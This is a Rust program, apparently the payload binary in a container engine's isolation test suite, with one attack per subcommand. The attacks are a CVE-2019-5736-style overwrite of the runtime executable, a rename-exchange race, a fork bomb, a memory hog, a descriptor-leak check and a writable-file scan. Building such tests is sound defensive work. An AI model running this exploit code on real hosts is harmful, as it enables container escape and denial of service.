//! What a hostile container runs: one static program, a verb per attack.
//!
//! It prints one fact a line and ends 0 when the attack could be carried out at all; whether it succeeded is for the
//! host to see.

use std::fs::{File, OpenOptions, read_dir, read_link};
use std::io::{Write, stdout};
use std::net::{Ipv4Addr, SocketAddrV4};
use std::os::fd::AsRawFd;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};
use std::time::{Duration, Instant};

use rustix::fs::{CWD, RenameFlags, renameat_with};
use rustix::net::{AddressFamily, RecvFlags, SendFlags, SocketType, ipproto, recv, sendto, socket, sockopt};

fn main() -> ExitCode {
    let words: Vec<String> = std::env::args().skip(1).collect();
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    let done = match words.as_slice() {
        ["descriptors"] => descriptors(),
        ["overwrite-exe", seconds] => overwrite_exe(duration(seconds)),
        ["swap", one, other, seconds] => swap(one, other, duration(seconds)),
        ["hog", mebibytes] => hog(mebibytes.parse().unwrap_or(0)),
        ["spin", seconds] => spin(duration(seconds)),
        ["writable", roots @ ..] => writable(roots),
        ["bomb"] => {
            // The fuse is long enough to see that there is a limit.
            std::thread::sleep(Duration::from_secs(1));
            bomb()
        }
        ["bombs"] => bomb(),
        ["ping"] => ping(),
        ["pattern", bytes] => pattern(bytes.parse().unwrap_or(0)),
        _ => Err(std::io::Error::other(
            "descriptors | overwrite-exe S | swap A B S | hog MIB | spin S | writable DIR... | ping | bomb | pattern BYTES",
        )),
    };
    match done {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            drop(writeln!(std::io::stderr(), "payload: {error}"));
            ExitCode::from(2)
        }
    }
}

fn duration(seconds: &str) -> Duration {
    Duration::from_secs(seconds.parse().unwrap_or(1))
}

/// H3: the working directory and every open descriptor beyond the three streams.
fn descriptors() -> std::io::Result<()> {
    let mut out = stdout().lock();
    writeln!(out, "cwd {}", read_link("/proc/self/cwd")?.display())?;
    // The directory's own descriptor is open while the list is read, and names /proc/PID/fd.
    for entry in read_dir("/proc/self/fd")? {
        let path = entry?.path();
        let target = read_link(&path)?;
        let number = path.file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
        if !matches!(number.as_str(), "0" | "1" | "2") && !target.ends_with("fd") {
            writeln!(out, "fd {number} {}", target.display())?;
        }
    }
    Ok(())
}

/// CVE-2019-5736: catch any process that is the engine's, keep its executable, write it once it is idle.
fn overwrite_exe(time: Duration) -> std::io::Result<()> {
    let identity = |path: &str| std::fs::metadata(path).map(|meta| (meta.dev(), meta.ino()));
    // The first process of a container is this program; elsewhere, the attack would hit who knows whom.
    if identity("/proc/1/exe")? != identity("/proc/self/exe")? {
        return Err(std::io::Error::other("not alone in a container: nothing is attacked"));
    }
    let mut caught: Vec<File> = Vec::new();
    let mut written = 0u32;
    let end = Instant::now() + time;
    while Instant::now() < end {
        for entry in read_dir("/proc")?.flatten() {
            let exe = entry.path().join("exe");
            let Ok(target) = read_link(&exe) else { continue };
            let name = target.to_string_lossy();
            let engine = name.contains("lighter") || name.contains("memfd:");
            if engine
                && caught.len() < 200
                && let Ok(file) = File::open(&exe)
            {
                caught.push(file);
            }
        }
        for file in &caught {
            let path = format!("/proc/self/fd/{}", file.as_raw_fd());
            if let Ok(mut victim) = OpenOptions::new().write(true).truncate(true).open(path) {
                written += u32::from(victim.write_all(b"#!/bin/sh\necho owned\n").is_ok());
            }
        }
    }
    writeln!(stdout(), "caught {} written {written}", caught.len())
}

/// H2: exchange two names as fast as the kernel can.
fn swap(one: &str, other: &str, time: Duration) -> std::io::Result<()> {
    let end = Instant::now() + time;
    let mut swaps = 0u64;
    while Instant::now() < end {
        for _ in 0..1000 {
            renameat_with(CWD, one, CWD, other, RenameFlags::EXCHANGE)?;
        }
        swaps += 1000;
    }
    writeln!(stdout(), "swaps {swaps}")
}

/// Touches this much memory, then holds it.
fn hog(mebibytes: usize) -> std::io::Result<()> {
    let mut held: Vec<Vec<u8>> = Vec::new();
    for _ in 0..mebibytes {
        held.push(vec![1; 1 << 20]);
    }
    writeln!(stdout(), "held {} MiB", held.len())?;
    std::thread::sleep(Duration::from_secs(1));
    Ok(())
}

/// A fork bomb: every process starts others for as long as it lives, and gives up never.
fn bomb() -> std::io::Result<()> {
    let mut children = Vec::new();
    loop {
        // A refusal is what the limit is for; the bomb goes on.
        if let Ok(child) = Command::new("/proc/self/exe").arg("bombs").spawn() {
            children.push(child);
        }
    }
}

/// Keeps two threads busy.
fn spin(time: Duration) -> std::io::Result<()> {
    let busy = move || {
        let end = Instant::now() + time;
        let mut rounds = 0u64;
        while Instant::now() < end {
            rounds = std::hint::black_box(rounds.wrapping_add(1));
        }
        rounds
    };
    let other = std::thread::spawn(busy);
    let rounds = busy() + other.join().unwrap_or(0);
    writeln!(stdout(), "rounds {rounds}")
}

/// Writes this many bytes of a known pattern: byte n is n modulo 251.
fn pattern(bytes: usize) -> std::io::Result<()> {
    let block: Vec<u8> = (0..251u8).cycle().take(251 * 256).collect();
    let mut out = stdout().lock();
    let mut left = bytes;
    while left > 0 {
        let count = left.min(block.len());
        out.write_all(&block[..count])?;
        left -= count;
    }
    out.flush()
}

/// An echo request to loopback through a ping socket, which needs no capability, and its reply.
fn ping() -> std::io::Result<()> {
    let socket = socket(AddressFamily::INET, SocketType::DGRAM, Some(ipproto::ICMP))?;
    sockopt::set_socket_timeout(&socket, sockopt::Timeout::Recv, Some(Duration::from_secs(5)))?;
    // Type 8, code 0; the kernel fills in checksum and identifier. The payload tells the reply from others.
    let request = *b"\x08\0\0\0\0\0\0\x01lighter";
    sendto(&socket, &request, SendFlags::empty(), &SocketAddrV4::new(Ipv4Addr::LOCALHOST, 0))?;
    let mut reply = [0; 64];
    let (_, length) = recv(&socket, &mut reply, RecvFlags::empty())?;
    let echoed = reply[0] == 0 && reply[..length].ends_with(b"lighter");
    writeln!(stdout(), "{}", if echoed { "echoed" } else { "something else came back" })
}

/// Names every file below `roots` that opens for writing. Nothing is written. Processes' own directories do not count,
/// nor does `/proc/pressure`, which the kernel means for everybody.
fn writable(roots: &[&str]) -> std::io::Result<()> {
    let mut stack: Vec<PathBuf> = roots.iter().map(PathBuf::from).collect();
    let mut out = stdout().lock();
    while let Some(dir) = stack.pop() {
        for entry in read_dir(&dir).into_iter().flatten().flatten() {
            let (path, Ok(kind)) = (entry.path(), entry.file_type()) else { continue };
            let process = dir.as_os_str() == "/proc" && entry.file_name().as_encoded_bytes()[0].is_ascii_digit();
            if kind.is_dir() && !process && !path.starts_with("/proc/pressure") {
                stack.push(path);
            } else if kind.is_file() && opens_for_writing(&path) {
                writeln!(out, "{}", path.display())?;
            }
        }
    }
    Ok(())
}

/// Whether a regular file can be opened for writing. The directory's entry does not tell that a device lies over it.
fn opens_for_writing(path: &Path) -> bool {
    let file = OpenOptions::new().append(true).open(path);
    file.and_then(|file| file.metadata()).is_ok_and(|meta| meta.is_file())
}
